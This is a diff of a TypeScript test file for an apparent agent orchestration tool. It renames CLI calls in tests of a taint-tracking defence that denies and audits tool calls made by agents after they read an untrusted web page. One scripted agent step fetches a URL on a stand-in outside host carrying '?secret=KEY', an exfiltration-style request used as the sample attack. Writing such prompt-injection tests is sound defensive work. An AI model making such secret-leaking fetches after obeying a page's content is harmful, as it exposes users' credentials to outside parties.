@@ -64,7 +64,7 @@ it("who obeys a page reaches nobody, whatever the rules allow; who has read none
     permissions: { allow: ["WebFetch(domain:127.0.0.1)", "WebFetch", "Bash"] },
   });
   const audited = async (run: string): Promise<readonly Audited[]> =>
-    documentOf<{ decisions: readonly Audited[] }>(await stage.swarm.run(["audit", "query", "--run", run, "--json"]))
+    documentOf<{ decisions: readonly Audited[] }>(await stage.swarm.ask(["audit", "query", "--run", run, "--json"]))
       .decisions;
 
   const clean = await stage.play([says(use("WebFetch", { url: `${away}/clean` })), report("fetched")]);
@@ -102,10 +102,10 @@ it("who obeys a page reaches nobody, whatever the rules allow; who has read none
   expect(denied).toHaveLength(3);
   for (const row of denied) expect(row.taint).toEqual([{ source: "web", label: page, turn: 1 }]);
   expect(rows.filter(({ taint }) => taint.length === 0).map(({ tool }) => tool)).toEqual(["WebFetch"]);
-  const shown = documentOf<{ result: { taint: unknown } }>(await stage.swarm.run(["show", run, "--json"]));
+  const shown = documentOf<{ result: { taint: unknown } }>(await stage.swarm.ask(["show", run, "--json"]));
   const mark = { source: "web", label: page, turn: 1 };
   expect(shown.result.taint).toEqual([{ task: "goal", ...mark }]);
-  expect((await stage.swarm.run(["show", run])).stdout).toContain(
+  expect((await stage.swarm.ask(["show", run])).stdout).toContain(
     `a_goal has read: nobody vouched for ${page} at turn 1`,
   );
   await inherited(stage, page, away, audited);
@@ -136,7 +136,7 @@ async function inherited(
     stage.double.script(...entries.map((entry) => ({ when, ...entry })));
   script("Pair-reads.", says(use("WebFetch", { url: page })), ended);
   script("Pair-builds.", says(use("WebFetch", { url: `${away}/?secret=KEY` })), ended);
-  const finished = await stage.swarm.run(["run", file, "--workspace", stage.workspace, "--json"]);
+  const finished = await stage.swarm.ask(["run", file, "--workspace", stage.workspace, "--json"]);
   const { runId, status } = documentOf<RunDocument>(finished);
   expect(status, finished.stderr).toBe("completed");
   const row = (await audited(runId)).find(({ actor }) => actor === "a_builds");
